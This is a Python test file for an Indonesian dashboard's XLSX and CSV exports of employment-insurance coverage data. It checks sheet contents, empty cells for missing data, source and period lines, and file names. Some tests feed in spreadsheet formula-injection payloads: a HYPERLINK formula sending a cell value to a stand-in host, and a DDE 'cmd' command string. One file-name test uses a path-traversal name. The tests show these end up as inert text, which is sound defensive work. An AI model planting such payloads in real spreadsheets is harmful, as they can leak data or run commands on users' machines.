"""The XLSX workbook: the values the screen shows, empty cells for no data, no formula from data, the source
and period of each figure; file names."""

from __future__ import annotations

import csv
import io
import json
import math
from dataclasses import replace
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook

from ucj_dash.analysis import priority
from ucj_dash.analysis.settings import Settings
from ucj_dash.datasets import figures as figures_module
from ucj_dash.datasets import store
from ucj_dash.exports import cells, workbook
from ucj_dash.exports.filenames import export_filename, slug
from ucj_dash.geography.regions import Registry
from ucj_dash.views import mapview

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
PERIOD = "2024-12"


@pytest.fixture(scope="module")
def settings():
    return Settings()


def meta_json(dataset_id: str) -> dict:
    """A demo source's meta.json as stored (read here, not through the code under test)."""
    return json.loads((store.dataset_path(dataset_id) / "meta.json").read_text(encoding="utf-8"))


def ucj_line(lang: str = "id", participants_month: str = "Des 2024", workers_month: str = "Agu 2024") -> str:
    """What every export must print for UCJ coverage: participants of the month shown, Sakernas of August."""
    peserta, sakernas = meta_json("demo-peserta")["name"], meta_json("demo-sakernas")["name"]
    if lang == "id":
        return f"Cakupan UCJ — pembilang: {peserta}, {participants_month} · penyebut: {sakernas}, {workers_month}"
    return f"UCJ coverage — numerator: {peserta}, {participants_month} · denominator: {sakernas}, {workers_month}"


class Without(figures_module.Figures):
    """``base`` with every region under ``prefix`` missing from the data (tests only; its own cache key)."""

    def __init__(self, base: figures_module.Figures, prefix: str | None = None, only: str | None = None):
        self.__dict__.update(base.__dict__)
        self._base, self._prefix, self._only = base, prefix, only
        self.key = (*base.key, ("without", prefix, only))

    def at(self, period: str) -> pd.DataFrame:
        frame = self._base.at(period)
        keep = pd.Series(True, index=frame.index)
        if self._prefix is not None:
            keep &= ~(frame.index.str.startswith(self._prefix + ".") | (frame.index == self._prefix))
        if self._only is not None:
            keep &= frame.index.str.startswith(self._only)
        return frame[keep.to_numpy()]


def renamed(base: figures_module.Figures, **changes) -> figures_module.Figures:
    """``base`` with every dataset's metadata changed (same stored figures)."""
    datasets = {i: store.Dataset(replace(d.meta, **changes), d.version, d.path) for i, d in base.datasets.items()}
    return figures_module.Figures(base.composition, datasets, base.max_age_months)


def _load(data: bytes):
    return load_workbook(io.BytesIO(data))


def _sheet_rows(ws) -> tuple[list[str], list[tuple]]:
    rows = list(ws.iter_rows(min_row=workbook.HEADER_ROW, values_only=True))
    return list(rows[0]), rows[1:]


def _same(cell, value) -> bool:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return cell is None
    if isinstance(value, (bool,)) or type(value).__name__ == "bool_":
        return cell is bool(value)
    if isinstance(value, float) or hasattr(value, "dtype"):
        return cell is not None and not isinstance(cell, str) and math.isclose(float(cell), float(value), rel_tol=1e-12, abs_tol=1e-9)
    return cell == value


def test_regions_sheet_equals_the_children_table_on_screen(demo_figures, registry, settings):
    period = demo_figures.latest_period
    data = workbook.workbook_xlsx(demo_figures, registry, "35.07", period, settings, "id")
    wb = _load(data)
    assert wb.sheetnames == ["Wilayah", "Prioritas", "Definisi & sumber"]
    headers, rows = _sheet_rows(wb["Wilayah"])
    table = mapview.children_table(demo_figures, registry, "35.07", period, settings)
    own = mapview.region_row(demo_figures, "35.07", period, settings)
    assert len(rows) == len(table) + 1
    cols = workbook.region_columns("id")
    assert headers[4:] == [h for _, h, _ in cols]
    assert "Cakupan UCJ (%)" in headers and any(h.endswith("(orang)") for h in headers)
    # first row: the region itself
    assert rows[0][:3] == ("Wilayah ini", "35.07", "Kabupaten Malang")
    for j, (col, _, _) in enumerate(cols, start=4):
        assert _same(rows[0][j], own[col]), col
    # then every child, in the table's order, with the same values
    for row, (_, expected) in zip(rows[1:], table.iterrows()):
        assert row[1] == expected["code"] and row[2] == expected["name"]
        for j, (col, _, _) in enumerate(cols, start=4):
            assert _same(row[j], expected[col]), (expected["code"], col, row[j], expected[col])


def test_no_data_is_an_empty_cell_not_zero(demo_figures, registry, settings):
    """A kabupaten without data leaves its cells empty; counts never turn into 0."""
    period = demo_figures.latest_period
    figs = Without(demo_figures, "35.07")
    wb = _load(workbook.workbook_xlsx(figs, registry, "35", period, settings, "en"))
    headers, rows = _sheet_rows(wb["Regions"])
    missing = next(r for r in rows if r[1] == "35.07")
    values = dict(zip(headers, missing))
    assert values["UCJ coverage (%)"] is None
    assert values["Employed workers (UCJ denominator) (persons)"] is None
    assert values["Target met"] is None
    assert all(v is None for h, v in values.items() if h.endswith("(persons)"))
    assert not any(v == 0 for h, v in values.items() if h.endswith("(persons)") or h.endswith("(%)"))
    present = next(r for r in rows if r[1] == "35.08")
    assert dict(zip(headers, present))["UCJ coverage (%)"] > 0
    # the ranking puts it last, with the reason saying what is missing
    _, ranked = _sheet_rows(wb["Priority"])
    assert ranked[-1][1] == "35.07" and "no extreme-poverty data" in ranked[-1][5]


def test_priority_sheet_is_the_ranking_with_reasons(demo_figures, registry, settings):
    period = demo_figures.latest_period
    rule = priority.Rule(weight_gap=1.0)
    wb = _load(workbook.workbook_xlsx(demo_figures, registry, "35", period, settings, "id", rule))
    headers, rows = _sheet_rows(wb["Prioritas"])
    assert headers[:6] == ["Peringkat", "Kode", "Wilayah", "Kelompok", "Skor (orang, berbobot)", "Alasan peringkat"]
    table = mapview.children_table(demo_figures, registry, "35", period, settings)
    ranked = priority.rank(table, settings, rule)
    assert [r[1] for r in rows] == ranked["code"].tolist()
    assert [r[0] for r in rows] == list(range(1, len(ranked) + 1))
    first = ranked.iloc[0]
    assert rows[0][5] == priority.reason(first, settings, "id")
    assert math.isclose(rows[0][4], first["score"])
    assert "1,0 × kekurangan ke target" in wb["Prioritas"].cell(row=3, column=1).value


def test_every_sheet_names_the_source_and_period_of_each_figure(demo_figures, registry, settings):
    """Under each title: participants of December, Sakernas of August (not one dataset for everything)."""
    assert demo_figures.latest_period == PERIOD
    wb = _load(workbook.workbook_xlsx(demo_figures, registry, "35.07", PERIOD, settings, "id"))
    poverty = meta_json("demo-kemiskinan")["name"]
    for sheet in wb.worksheets:
        line = sheet.cell(row=2, column=1).value
        assert line.startswith("DATA SIMULASI")
        assert "Periode data: 2024-12." in line
        assert ucj_line("id") in line, line
        assert f"Kemiskinan ekstrem — pembilang: {poverty}, Mar 2024 · penyebut: {poverty}, Mar 2024" in line
    # an earlier month takes the Sakernas of the August before it
    wb = _load(workbook.priority_xlsx(demo_figures, registry, "35", registry.level("35.07"), "2024-07", settings, "en"))
    assert ucj_line("en", "Jul 2024", "Aug 2023") in wb.worksheets[0].cell(row=2, column=1).value


def test_definitions_sheet_lists_every_setting_with_source_and_the_datasets(demo_figures, registry, settings):
    period = demo_figures.latest_period
    wb = _load(workbook.workbook_xlsx(demo_figures, registry, "ID", period, settings, "id"))
    ws = wb["Definisi & sumber"]
    values = [row for row in ws.iter_rows(values_only=True)]
    flat = [v for row in values for v in row if v is not None]
    for item in settings.items():
        row = next(r for r in values if r[0] == item.key)
        assert row[1] == pytest.approx(item.value) and row[2] == item.unit and row[3] == item.source and row[4] == item.as_of
    assert "Peserta aktif ÷ penduduk bekerja × 100." in flat
    assert "Sumber setiap angka" in flat and ucj_line("id") in flat
    # one block per dataset used: id, name, source, version, the periods of it used, simulated, description, loaded at
    used = {"demo-peserta": "Des 2024: Peserta aktif BPJS Ketenagakerjaan",
            "demo-sakernas": "Agu 2024: Penduduk bekerja (penyebut UCJ)",
            "demo-kemiskinan": "Mar 2024: Jumlah penduduk, Penduduk miskin ekstrem",
            "demo-aparat-desa": "Des 2024: Kepala & perangkat desa, Kepala & perangkat desa terdaftar"}
    starts = [i for i, r in enumerate(values) if r[0] == "ID dataset"]
    assert [values[i][1] for i in starts] == list(used)
    for i, (dataset_id, periods) in zip(starts, used.items()):
        meta = meta_json(dataset_id)
        block = {r[0]: r[1] for r in values[i : i + 8]}
        assert block["Nama dataset"] == meta["name"] and block["Sumber"] == meta["source"]
        assert block["Versi"] == int((store.dataset_path(dataset_id) / "CURRENT").read_text().strip())
        assert block["Periode yang dipakai"].startswith(periods)
        assert block["Data simulasi?"] == "ya — Data simulasi / simulated data"
        assert block["Keterangan"] == meta["description"] and block["Dimuat pada"] == meta["created_at"]
        sim = ws.cell(row=i + 1 + 5, column=2)
        assert sim.value.startswith("ya") and sim.fill.fgColor.rgb.endswith("FFF3CD")
    assert next(r for r in values if r[0] == "Periode yang diekspor")[1] == period
    assert any("Kepmendagri No 300.2.2-2430 Tahun 2025" in str(v) for v in flat)
    # every sheet says the data is simulated
    for sheet in wb.worksheets:
        assert "DATA SIMULASI" in sheet.cell(row=2, column=1).value


def test_formula_like_names_are_stored_as_text(demo_figures, registry, settings):
    """A dataset and a region named like a formula come back as text cells, never formulas."""
    period = demo_figures.latest_period
    table = registry.table.copy()
    child = registry.children("35.07")[0]
    table.loc[child, "name"] = EVIL
    table.loc["35.07", "name"] = "@evil"
    evil_registry = Registry(table)
    figs = renamed(demo_figures, name=EVIL, source="+cmd|' /C calc'!A0")
    wb = _load(workbook.workbook_xlsx(figs, evil_registry, "35.07", period, settings, "id"))
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + EVIL in texts and "'@evil" in texts and "'+cmd|' /C calc'!A0" in texts
    assert any(f"pembilang: {EVIL}, Des 2024" in v for v in texts)  # the source lines name it as text
    assert not any(v.startswith(cells.FORMULA_START) for v in texts)


def test_village_workbook_has_the_village_and_says_there_is_nothing_to_rank(demo_figures, registry, settings):
    period = demo_figures.latest_period
    village = registry.children("35.07.01")[0]
    wb = _load(workbook.workbook_xlsx(demo_figures, registry, village, period, settings, "en"))
    _, rows = _sheet_rows(wb["Regions"])
    assert len(rows) == 1 and rows[0][1] == village
    assert "no regions below" in wb["Priority"].cell(row=workbook.HEADER_ROW + 1, column=1).value


def test_export_filename():
    day = date(2025, 6, 30)
    assert export_filename("ID", "Indonesia", "2024-12", "pdf", True, day) == "ucj_indonesia_2024-12_simulasi_2025-06-30.pdf"
    assert export_filename("35.07", "Kabupaten Malang", "2024-12", "xlsx", False, day) == "ucj_kabupaten-malang_3507_2024-12_2025-06-30.xlsx"
    name = export_filename("74.72", "Kota Bau-Bau/../é", "2024-12", "PNG", True, day)
    assert name == "ucj_kota-bau-bau-e_7472_2024-12_simulasi_2025-06-30.png"
    assert slug('=HYPERLINK("x")') == "hyperlink-x"
    assert export_filename("35.07", "///", "2024/12", "pdf", False, day) == "ucj_3507_202412_2025-06-30.pdf"


def test_priority_xlsx_matches_the_priority_list(demo_figures, registry, settings):
    from ucj_dash.geography.regions import Level

    data = workbook.priority_xlsx(demo_figures, registry, "53", Level.DISTRICT, demo_figures.latest_period, settings, "id")
    wb = _load(data)
    headers, rows = _sheet_rows(wb.worksheets[0])
    table = mapview.children_table(demo_figures, registry, "53", demo_figures.latest_period, settings, Level.DISTRICT)
    ranked = priority.rank(table, settings)
    codes = [r[headers.index("Kode")] for r in rows]
    assert codes == ranked["code"].tolist() and len(codes) == 315
    assert rows[0][headers.index("Alasan peringkat")] == priority.reason(ranked.iloc[0], settings)
    assert "kecamatan di Nusa Tenggara Timur" in wb.worksheets[0].cell(row=1, column=1).value


def test_csv_neutralises_formula_text_and_keeps_no_data_empty(demo_figures):
    table = pd.DataFrame({"Wilayah": [EVIL, "Kupang", "-1+2"], "Cakupan (%)": [10.5, float("nan"), 3.0]})
    text = workbook.csv_bytes(table, demo_figures, "2024-12", "id").decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK")
    assert lines[2].startswith("Kupang;;")  # no data stays empty, not 0
    assert lines[3].startswith("'-1+2;3,0")  # ";" and a decimal comma in Indonesian (cells.write_csv)
    assert all("Data simulasi / simulated data" in line for line in lines[1:])


def test_csv_source_column_names_each_figures_source_and_period(demo_figures):
    table = pd.DataFrame({"Wilayah": ["Kupang"], "Cakupan (%)": [10.5]})
    rows = list(csv.DictReader(io.StringIO(workbook.csv_bytes(table, demo_figures, PERIOD, "id").decode("utf-8-sig")),
                               delimiter=";"))
    assert rows[0]["Periode"] == PERIOD
    assert ucj_line("id") in rows[0]["Sumber"]
    officials = meta_json("demo-aparat-desa")["name"]
    assert f"Aparat desa terdaftar — pembilang: {officials}, Des 2024" in rows[0]["Sumber"]
    rows = list(csv.DictReader(io.StringIO(workbook.csv_bytes(table, demo_figures, "2024-07", "en").decode("utf-8-sig")),
                               delimiter=";"))
    assert ucj_line("en", "Jul 2024", "Aug 2023") in rows[0]["Source"]
